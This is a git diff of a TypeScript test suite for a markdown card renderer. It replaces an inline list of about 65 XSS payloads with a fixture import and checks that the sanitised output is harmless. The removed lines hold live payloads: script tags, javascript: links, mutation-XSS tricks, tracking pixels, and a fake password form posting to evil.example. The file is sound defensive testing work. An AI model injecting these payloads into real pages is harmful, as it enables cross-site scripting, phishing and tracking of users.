@@ -2,6 +2,7 @@ import { FORMULAS } from "../../../../fixtures/hostile/formulas.ts";
 import * as fc from "fast-check";
 import { parseFragment, type DefaultTreeAdapterTypes } from "parse5";
 import { describe, expect, test } from "vitest";
+import { HTML_CARDS } from "../../../../fixtures/hostile/html.ts";
 import { splitFrontMatter } from "./frontMatter.ts";
 import { targetOf } from "./links.ts";
 import { renderMarkdown, type MarkdownOptions } from "./markdown.ts";
@@ -14,80 +15,12 @@ const CARD: MarkdownOptions = {
 	picture: (target) => (target.type === "file" ? `/raw/${target.path}` : undefined),
 };
 
-const ATTACKS = [
-	"<script>alert(1)</script>",
-	"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-	"<img src=x onerror=alert(1)>",
-	'<img src="https://evil.example/pixel.gif" width=1>',
-	"![pixel](https://evil.example/pixel.gif)",
-	"![](data:image/svg+xml;base64,PHN2Zz4=)",
-	"[go](javascript:alert(1))",
-	'<a href="java\tscript:alert(1)">go</a>',
-	'<a href="&#106;avascript:alert(1)">go</a>',
-	'<a href="vbscript:x">go</a>',
-	'<a href="data:text/html,<script>alert(1)</script>">go</a>',
-	'<a href="https://evil.example" target=_blank ping="https://evil.example" onclick=alert(1)>go</a>',
-	"<svg onload=alert(1)><script>alert(1)</script></svg>",
-	"<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
-	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-	"<style>body{display:none}</style>",
-	'<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
-	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
-	'<link rel=stylesheet href="https://evil.example/x.css">',
-	'<base href="https://evil.example/">',
-	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-	'<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
-	'<form action="https://evil.example"><input name=password autofocus><button>Sign in</button></form>',
-	'<div id="main">x</div><a name="panel">x</a><img name=getElementById src=a.png>',
-	'<div id="card-a"></div><div id="card-a"></div>',
-	'<picture><source srcset="https://evil.example/x.png"><img src="https://evil.example/y.png"></picture>',
-	'<video src="https://evil.example/x.mp4" autoplay></video><audio src="https://evil.example/x.mp3"></audio>',
-	'<table background="https://evil.example/x.png"><tr><td background=https://evil.example>x</table>',
-	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-	"<!--><img src=x onerror=alert(1)>-->",
-	"<template><script>alert(1)</script></template>",
-	'<a href="//evil.example/x">x</a> <a href="\\\\evil.example/x">y</a> <a href="/\\evil.example">z</a>',
-	"![x](//evil.example/x.png) ![y](\\\\evil.example/y.png)",
-	"```js\n</code></pre><script>alert(1)</script>\n```",
-	'```"><script>alert(1)</script>\nx\n```',
-	"[x]: javascript:alert(1)\n\n[x]",
-	"<details open ontoggle=alert(1)><summary>x</summary></details>",
-	'<span class="panel top" style="color:red" tabindex=1 accesskey=x data-island="Evil" contenteditable>x</span>',
-	'<a class="skip" href="#main">x</a>',
-	"<h1 onclick=alert(1) id=constructor>t</h1>",
-	"# <img src=x onerror=alert(1)> heading",
-	'[a](<x" onmouseover="alert(1)>)',
-	'![a"onerror="alert(1)](x.png "t"onerror="alert(1)")',
-	"<xmp><script>alert(1)</script></xmp><plaintext><script>",
-	"<textarea></textarea><script>alert(1)</script><title></title><script>alert(1)</script>",
-	"<custom-element onclick=alert(1)><slot></slot></custom-element>",
-	"<dialog open>x</dialog><marquee onstart=alert(1)>x</marquee>",
-	"<math><mi//xlink:href='javascript:alert(1)'>x</mi></math>",
-	"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-	"<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
-	'<a href="https://hub.example/acme/parser/resolve/main/../../../../evil">x</a>',
-	"![x](https://hub.example/acme/parser/resolve/main/%2e%2e/%2e%2e/secret.png)",
-	"<details ontoggle=alert(1) open><summary onclick=alert(1)>x</summary></details><summary tabindex=1>y</summary>",
-	'<img src="a.png" srcset="https://evil.example/x.png 2x" sizes=100vw usemap=#m><map name=m><area href=javascript:alert(1)></map>',
-	"<a href='https://user:pass@evil.example/'>x</a><a href=https:evil.example>y</a>",
-	'<input type=image src="https://evil.example/x.png" formaction=javascript:alert(1)>',
-	'<q cite="javascript:alert(1)">x</q><ins cite="javascript:alert(1)">y</ins><blockquote cite="data:,x">z</blockquote>',
-	"<listing>&lt;img src=x onerror=alert(1)&gt;</listing><isindex prompt=x>",
-	"<body onload=alert(1) background=//evil.example/x><frameset onload=alert(1)>",
-	"$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$ $\\includegraphics{https://evil.example/x.png}$",
-	"$$\\htmlClass{panel}{x} \\htmlId{main}{x} \\htmlStyle{position:fixed}{x} \\htmlData{island=Evil}{x}$$",
-	"$</math><script>alert(1)</script>$ $\\text{</annotation><img src=x onerror=alert(1)>}$",
-	"$\\color{red}\\colorbox{red}{x}\\fcolorbox{red}{blue}{y}\\rule{1000em}{1000em}$",
-	"```math\n</math><script>alert(1)</script>\n```",
-	'<code class="language-math">x</code><pre><code class="language-math">\\href{javascript:alert(1)}{x}</code></pre>',
-];
-
 describe("what an untrusted card cannot do", () => {
-	test.each(ATTACKS)("%s", (attack) => expectHarmless(renderMarkdown(attack, CARD).html));
+	test.each(HTML_CARDS)("%s", (attack) => expectHarmless(renderMarkdown(attack, CARD).html));
 
 	test("nor any mixture of such parts", () => {
 		const piece = fc.oneof(
-			fc.constantFrom(...ATTACKS),
+			fc.constantFrom(...HTML_CARDS),
 			fc.string(),
 			fc.constantFrom("\n\n", "<div>", "</div>", "`", "|a|\n|-|\n", "<p ", ">", "'", '"', "- ", "> "),
 			fc.constantFrom("[^a]", "\n[^a]: ", "> [!NOTE]\n> ", "- [x] ", "\n    "),
